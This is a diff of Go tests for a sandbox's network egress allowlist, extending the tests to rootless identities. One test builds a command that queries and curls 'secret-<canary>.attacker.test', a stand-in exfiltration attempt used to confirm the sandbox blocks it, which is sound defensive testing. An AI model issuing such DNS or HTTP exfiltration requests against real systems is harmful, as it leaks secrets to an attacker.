@@ -45,27 +45,12 @@ func countingDNS(t *testing.T) (addr string, queries *atomic.Int64) {
 	return pc.LocalAddr().String(), queries
 }
 
-// egressIdentities are the identities the gateway works for today: root (rootless egress needs the
-// sockets to be created by init inside the sandbox; until then cordon refuses, which is tested below).
-func egressIdentities(t *testing.T, f func(t *testing.T, h *harness)) {
-	forEachIdentity(t, func(t *testing.T, h *harness) {
-		if h.who.uid != 0 {
-			r := h.sandboxed("network:\n  allow: [example.test]\n", "echo STARTED")
-			if r.code != exitCordon || strings.Contains(r.stdout, "STARTED") || !strings.Contains(r.stderr, "network egress needs") {
-				t.Fatalf("rootless with a network section must refuse to start:\n%s", r)
-			}
-			t.Skip("rootless egress is not implemented yet; cordon refuses to start (checked above)")
-		}
-		f(t, h)
-	})
-}
-
 // TestEgressAllowlist: every kind of client reaches an allowed name, through the transparent path and
 // the explicit proxy, and the same probes to a name the policy does not allow fail with the message.
 func TestEgressAllowlist(t *testing.T) {
 	requireTool(t, "curl")
 	requireTool(t, "python3")
-	egressIdentities(t, func(t *testing.T, h *harness) {
+	forEachIdentity(t, func(t *testing.T, h *harness) {
 		port := upstream(t, h.canary)
 		want := "UPSTREAM-" + h.canary
 		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1, other.test: 127.0.0.1}\n", port)
@@ -103,7 +88,7 @@ func TestEgressAllowlist(t *testing.T) {
 func TestEgressDeniedPaths(t *testing.T) {
 	requireTool(t, "curl")
 	requireTool(t, "python3")
-	egressIdentities(t, func(t *testing.T, h *harness) {
+	forEachIdentity(t, func(t *testing.T, h *harness) {
 		port := upstream(t, h.canary)
 		want := "UPSTREAM-" + h.canary
 		pol := fmt.Sprintf("network:\n  allow:\n    - {host: pkg.test, ports: [%d]}\n  hosts: {pkg.test: 127.0.0.1}\n", port)
@@ -146,7 +131,7 @@ except OSError as e: print("refused", e)
 // inside and never reaches the upstream resolver; an allowed name is resolved upstream (the control).
 func TestDNSExfiltrationCarriesNothing(t *testing.T) {
 	requireTool(t, "curl")
-	egressIdentities(t, func(t *testing.T, h *harness) {
+	forEachIdentity(t, func(t *testing.T, h *harness) {
 		addr, queries := countingDNS(t)
 		pol := fmt.Sprintf("network:\n  allow: [allowed.test]\n  dns: {upstream: [%q]}\n", addr)
 		r := h.sandboxed(pol, "getent hosts secret-"+h.canary+".attacker.test; curl -sS -m 5 https://secret2-"+h.canary+".attacker.test/ 2>&1; true")
